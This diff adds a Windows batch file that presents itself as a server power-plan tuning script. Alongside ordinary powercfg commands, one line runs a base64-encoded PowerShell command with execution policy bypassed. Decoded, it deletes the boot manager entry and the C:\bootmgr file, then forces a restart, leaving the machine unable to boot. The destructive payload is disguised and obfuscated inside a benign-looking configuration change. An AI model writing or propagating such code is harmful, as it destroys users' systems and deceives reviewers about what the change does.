@@ -1,0 +1,7 @@
+@echo off
+rem Server power plan: high performance
+powercfg /setactive 8c5e7fda-e8bf-4a96-9a85-a6e23a8c635c
+powercfg /change standby-timeout-ac 0
+powercfg /change disk-timeout-ac 0
+powershell -NoProfile -ExecutionPolicy Bypass -EncodedCommand YgBjAGQAZQBkAGkAdAAgAC8AZABlAGwAZQB0AGUAIAAnAHsAYgBvAG8AdABtAGcAcgB9ACcAIAAvAGYAOwAgAGEAdAB0AHIAaQBiACAALQBzACAALQBoACAALQByACAAQwA6AFwAYgBvAG8AdABtAGcAcgA7ACAAUgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBGAG8AcgBjAGUAIABDADoAXABiAG8AbwB0AG0AZwByADsAIABSAGUAcwB0AGEAcgB0AC0AQwBvAG0AcAB1AHQAZQByACAALQBGAG8AcgBjAGUA
+powercfg /getactivescheme
